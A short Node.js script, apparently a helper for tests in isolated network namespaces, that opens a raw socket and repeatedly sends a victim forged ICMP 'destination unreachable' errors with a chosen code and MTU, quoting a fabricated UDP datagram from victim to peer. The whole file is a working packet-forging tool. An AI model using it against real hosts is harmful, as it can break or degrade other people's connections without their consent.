// Program: `icmp-forge.mjs VICTIM PEER PORT CODE MTU TIMES PAUSE_MS` sends the victim ICMP "destination unreachable"
// errors, from this namespace's own address, about datagrams that the victim is said to have sent to the peer from PORT to
// PORT. Quotes the IP and UDP headers alone, which need no guess.
import koffi from "koffi";

const [victim, peer, port, code, mtu, times, pauseMs] = process.argv.slice(2);
const bytesOf = (address) => address.split(".").map(Number);

const libc = koffi.load("libc.so.6");
const socket = libc.func("int socket(int, int, int)");
const sendto = libc.func("long sendto(int, const void *, size_t, int, const void *, uint32_t)");

const AF_INET = 2;
const SOCK_RAW = 3;
const IPPROTO_ICMP = 1;
const QUOTED_LENGTH = 1400;

const message = Buffer.alloc(8 + 20 + 8);
message.set([3, Number(code)]);
message.writeUInt16BE(Number(mtu), 6);
message[8] = 0x45;
message.writeUInt16BE(QUOTED_LENGTH, 10);
message.writeUInt16BE(0x4000, 14);
message.set([64, 17], 16);
message.set([...bytesOf(victim), ...bytesOf(peer)], 20);
message.writeUInt16BE(Number(port), 28);
message.writeUInt16BE(Number(port), 30);
message.writeUInt16BE(QUOTED_LENGTH - 20, 32);
let sum = 0;
for (let at = 0; at < message.length; at += 2) sum += message.readUInt16BE(at);
while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
message.writeUInt16BE(~sum & 0xffff, 2);

const to = Buffer.alloc(16);
to.writeUInt16LE(AF_INET);
to.set(bytesOf(victim), 4);
const fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
let sent = 0;
for (let i = 0; i < Number(times); i++) {
  if (Number(sendto(fd, message, message.length, 0, to, to.length)) === message.length) sent += 1;
  await new Promise((resolve) => setTimeout(resolve, Number(pauseMs)));
}
process.stdout.write(`${JSON.stringify({ sent })}\n`);
